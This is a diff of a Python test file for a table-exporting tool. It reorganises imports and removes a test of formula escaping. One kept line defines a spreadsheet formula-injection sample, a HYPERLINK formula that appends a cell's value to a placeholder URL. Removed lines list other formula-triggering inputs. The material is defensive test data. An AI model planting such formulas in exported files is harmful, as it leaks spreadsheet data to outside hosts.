@@ -19,7 +19,8 @@ from report.reading import has_in_turn, named_in
 from support.arrow import TEXT_TYPES
 from support.commands import refused, run
 from vennforest.persistence import read_header
-from vennforest.tables.files import TableFile, table_as_text, without_formula
+from vennforest.tables.open import TableFile
+from vennforest.tables.write import table_as_text
 
 TARGET = "what happened"
 CLASSES = ["1e3", "lower", "no way", "yes "]
@@ -274,13 +275,6 @@ def test_a_table_is_read_predicted_and_written_in_parts(folder, tmp_path, monkey
 
 # Spreadsheet programs take some text for formulas.
 FORMULA = '=HYPERLINK("http://x/?"&A1,"y")'
-FORMULAS = [FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "+41 79 1", "-", "-x"]
-NO_FORMULAS = ["-5", "+5.5", "-1e-300", " -5", "", "x=1", "a-b", "'=1", "-inf"]
-
-
-def test_an_apostrophe_goes_before_a_formula():
-    assert [*map(without_formula, FORMULAS)] == ["'" + text for text in FORMULAS]
-    assert [*map(without_formula, NO_FORMULAS)] == NO_FORMULAS
 
 
 def test_formulas_are_escaped_only_where_that_is_asked_for(tmp_path):
